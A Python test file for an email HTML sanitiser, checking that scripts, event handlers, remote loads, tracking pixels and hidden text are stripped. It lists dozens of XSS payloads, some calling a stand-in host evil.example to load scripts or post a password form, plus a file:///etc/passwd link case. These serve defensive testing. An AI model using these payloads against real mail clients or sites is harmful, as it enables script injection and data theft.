"""HTML of strangers, made harmless and read as text."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailmirror.mail.mime.html import sanitise, text_of

ACTIVE = re.compile(
    r"<(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|video|audio)"
    r"|<[^>]*\son\w+\s*=|<[^>]*(?:javascript|vbscript):|<[^>]*url\(|<[^>]*(?:src|background)=.?http"
    r"|<[^>]*expression\(",
    re.IGNORECASE,
)


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src='cid:a' onload='alert(1)'>",
        '<img src="jav&#x09;ascript:alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" &#14; javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<embed src=https://evil.example>",
        "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example>",
        "<base href=https://evil.example>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<div style='background:url(https://evil.example)'>x</div>",
        "<div style='background-color:red;font-family:url(//evil.example)'>x</div>",
        r"<div style='color:\75rl(https://evil.example)'>x</div>",
        "<div style='color:expression(alert(1))'>x</div>",
        "<div style='width:ur/**/l(https://evil.example)'>x</div>",
        "<table background=https://evil.example><tr><td background=https://evil.example>x</table>",
        "<img src=https://evil.example/pixel.gif width=1 height=1>",
        "<img src=//evil.example/pixel.gif>",
        "<img srcset='https://evil.example/a 2x' src=cid:x>",
        "<video poster=https://evil.example/a><source src=https://evil.example/b></video>",
        "<input type=image src=https://evil.example>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<p><!--[if IE]><script>alert(1)</script><![endif]--></p>",
        "<a href='https://x.example' onclick='alert(1)' ping='https://evil.example'>x</a>",
        "<xss style='behavior:url(#x)'>x</xss>",
        '<title><img src="</title><img src=x onerror=alert(1)//">',
    ],
)
def test_nothing_runs_posts_or_loads(markup: str) -> None:
    shown = sanitise(markup)
    assert not ACTIVE.search(shown), shown
    assert "evil.example" not in shown


def test_a_picture_of_the_message_stays_and_one_of_a_server_loses_its_address() -> None:
    assert 'src="cid:logo@x"' in sanitise('<img src="cid:logo@x" alt="Logo">')
    assert 'src="data:image/png;base64,AA=="' in sanitise("<img src='data:image/png;base64,AA=='>")
    shown = sanitise('<img src="https://x.example/logo.png" alt="Logo">')
    assert shown == '<img alt="Logo">'


@pytest.mark.parametrize(
    "url", ["https://x.example/a?b=c", "http://x.example", "mailto:a@x.example", "tel:+81"]
)
def test_links_open_apart_and_name_no_referrer(url: str) -> None:
    shown = sanitise(f'<a href="{url}">x</a>')
    assert f'href="{url}"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert 'target="_blank"' in shown


@pytest.mark.parametrize(
    "url", ["ftp://x.example", "file:///etc/passwd", "cid:x", "//x.example", "/a"]
)
def test_other_links_are_text(url: str) -> None:
    assert "href" not in sanitise(f'<a href="{url}">x</a>')


def test_the_look_of_a_message_stays_within_its_own_box() -> None:
    shown = sanitise(
        '<p style="color: rgb(1, 2, 3); position: fixed; top: 0; font-size: 12px">x</p>'
    )
    assert "color" in shown
    assert "font-size" in shown
    assert "position" not in shown
    assert "top" not in shown


def test_nothing_of_a_message_can_pose_as_a_part_of_the_page() -> None:
    assert sanitise('<p id="app" class="btn" name="x">x</p>') == "<p>x</p>"


def test_what_is_sanitised_stays_as_it_is_when_sanitised_again() -> None:
    markup = '<p style="color:red"><a href="https://x.example">a</a><img src="cid:x">&lt;b&gt;</p>'
    assert sanitise(sanitise(markup)) == sanitise(markup)


@given(st.text(alphabet="<>/\"'= abscriptonlyvg:&#;-!\n", max_size=200))
def test_no_markup_runs(markup: str) -> None:
    assert not ACTIVE.search(sanitise(markup))
    text_of(markup)


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
        ("<ul><li>one</li><li>two</li></ul>", "one\ntwo"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("a   \n b&nbsp;c", "a b c"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("&lt;tag&gt; &amp; &#x1F389;", "<tag> & 🎉"),
        ("<title>no</title><style>no</style><script>no</script>yes", "yes"),
        (
            "<blockquote>one<br>two<blockquote>deep</blockquote></blockquote>",
            "> one\n> two\n>> deep",
        ),
        ("a<blockquote><p>b</p><p>c</p></blockquote><p>d</p>", "a\n\n> b\n>\n> c\n\nd"),
        ("<a href='https://x.example'>link</a>", "link"),
        ("unclosed <b>bold <i>both", "unclosed bold both"),
        ("", ""),
    ],
)
def test_html_reads_as_it_looks(markup: str, text: str) -> None:
    assert text_of(markup) == text


@pytest.mark.parametrize(
    "unit", ["<div>", "<b>", "<blockquote>x", "<font><a href=x>", "<table><tr><td>"]
)
def test_what_is_nested_beyond_sense_is_text(unit: str) -> None:
    """To parse these as they stand would take from minutes to hours."""
    markup = "hello" + unit * 400_000
    assert "hello" in text_of(markup)
    assert not ACTIVE.search(sanitise(markup))


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("margin-left:-900px;margin-top:-.5em;color:red", "color:red"),
        ("margin:0 -9px;text-indent:-9999px;width:5px", "width:5px"),
        ("font-family:Segoe-Light;color:red", "font-family:Segoe-Light;color:red"),
        ("width:calc(100% - 2px);color:red", "color:red"),
        ("background:#fff;color:#000", "background-color:#fff;color:#000"),
        ("background: rgb(0, 0, 0) ; color: white", "background-color:rgb(0, 0, 0);color:white"),
        ("background:black url(https://evil.example) repeat;color:white", ""),
        ("background-image:url(cid:a);color:white;width:1px", "width:1px"),
        ("color;;:;color:", ""),
    ],
)
def test_a_style_loses_what_is_harmful_and_no_more(style: str, kept: str) -> None:
    shown = sanitise(f'<p style="{style}">x</p>')
    (found,) = re.findall(r'style="([^"]*)"', shown)
    assert found == kept


HIDDEN = [
    "<div style='display:none'>no</div>",
    "<div STYLE='color:red; DISPLAY : None !important'>no</div>",
    "<span style='display&#58;none'>no</span>",
    "<div hidden>no</div>",
    "<section hidden='until-found'>no</section>",
    "<div style='opacity:0'>no</div>",
    "<div style='opacity:0.00'>no</div>",
    "<div style='max-height:0px;overflow:hidden'>no</div>",
    "<table><tr><td style='height:0;overflow:hidden'>no</td></tr></table>",
    "<span style='position:absolute;left:-9999px'>no</span>",
    "<div style='display:none'>no<div>no<br>no<img src=cid:a><b>no</div>no</div>",
    "<b style='display:none'>no<p>no</b></p>",
    "<div title='>' style='display:none'>no</div>",
    "<ul style='display:none'><li>no<li>no</ul>",
    "<br hidden>",
    "<div style='display:none/**/'>no</div>",
    "<div style='color:red/*;*/;/* ; */display:none'>no</div>",
    "<div style='max-height:0;overflow:hidden auto'>no</div>",
    "<div style='height:0;overflow:auto'>no</div>",
    "<div style='width:0;overflow-x:hidden'>no</div>",
    "<div style='height:0;overflow-x:scroll'>no</div>",
]


@pytest.mark.parametrize("markup", HIDDEN)
def test_what_is_hidden_is_neither_shown_nor_read(markup: str) -> None:
    whole = f"<div>yes</div>{markup}<div>and this</div>"
    assert text_of(whole).split() == ["yes", "and", "this"]
    assert "no" not in re.sub(r"<[^>]*>", "", sanitise(whole))
    assert "hidden" not in sanitise(whole)
    assert sanitise(sanitise(whole)) == sanitise(whole)


@pytest.mark.parametrize(
    "markup",
    [
        "<div style='display:block'>yes</div>",
        "<div style='display:none;display:block'>yes</div>",
        "<div style='mso-hide:all'>yes</div>",
        "<div style='opacity:0.5'>yes</div>",
        "<div style='max-height:0'>yes</div>",
        "<div style='height:0.5em;overflow:hidden'>yes</div>",
        "<div style='height:100px;overflow:hidden'>yes</div>",
        "<span style='position:absolute;left:-1px'>yes</span>",
        "<div title='style=\"display:none\"'>yes</div>",
        "<div title=' hidden=\"\"'>yes</div>",
        "style=&quot;display:none&quot;<div>yes</div>",
        "<p title='a hidden='>yes</p>",
        "<div style='display:block !important;display:none'>yes</div>",
        "<div style='visibility:hidden'><span style='visibility:visible'>yes</span></div>",
        "<div style='overflow:hidden;width:0;min-width:100%'>yes</div>",
        "<div style='font-size:16px !important;font-size:0'>yes</div>",
        "<td style='font-size:0'><span style='font-size:14px'>yes</span></td>",
        "<td style='font:0/0 a'><span style='font:bold .9em/1 a'>yes</span></td>",
        "<td style='font:0 a'><span style='font:12px/0 a, b'>yes</span></td>",
        "<td style='font:0 a'><span style='font:italic small a'>yes</span></td>",
        "<p style='font:0'>yes</p>",
        "<p style='font:400 16px a'>yes</p>",
        "<p style='visibility:visible'><b style='visibility:inherit'>yes</b></p>",
        "<p style='display:no/**/ne'>yes</p>",
        "<p style='/*display:none*/'>yes</p>",
        "<p style='/*display:none'>yes</p>",
        "<p style='font-family:\"a;display:none;b\"'>yes</p>",
        "<p style='width:0;overflow-y:clip'>yes</p>",
        "<p style='height:0;overflow:visible'>yes</p>",
    ],
)
def test_what_is_seen_stays(markup: str) -> None:
    assert "yes" in text_of(markup)
    assert "yes" in sanitise(markup)


@pytest.mark.parametrize(
    "style",
    [
        *(
            "font-size:0px",
            "visibility:hidden",
            "visibility:collapse",
            "font:0/0 a",
            "font: 0 / 0 a",
        ),
        *(
            "font: 0 / 0 a",
            "font:italic 700 0px/1.5 a, b",
            "font:14px a;font:0 a",
            "font-size:/**/0/**/",
        ),
    ],
)
def test_letters_that_are_not_seen_are_not_read(style: str) -> None:
    markup = f"<p>one <font style='{style}'>no<b>no</b></font>two</p>"
    assert text_of(markup) == "one two"


@pytest.mark.parametrize(
    "style", ["color:a{}b", "color{}:b", "a:b!{}important", "{};a:b", "/*{}", "font:{}0/1"]
)
def test_a_style_takes_time_in_proportion_to_its_length(style: str) -> None:
    assert text_of(f"<p style='{style.format(' ' * 1_000_000)}'>yes</p>") == "yes"


@given(st.lists(st.sampled_from(["<div>", "</div>", "<b>", "</b>", "<br>", "x", *HIDDEN])))
def test_hidden_elements_leave_whatever_surrounds_them(pieces: list[str]) -> None:
    visible = "".join("" if piece in HIDDEN else piece for piece in pieces)
    read = "".join(text_of("".join(pieces)).split())
    assert read == "".join(text_of(visible).split())
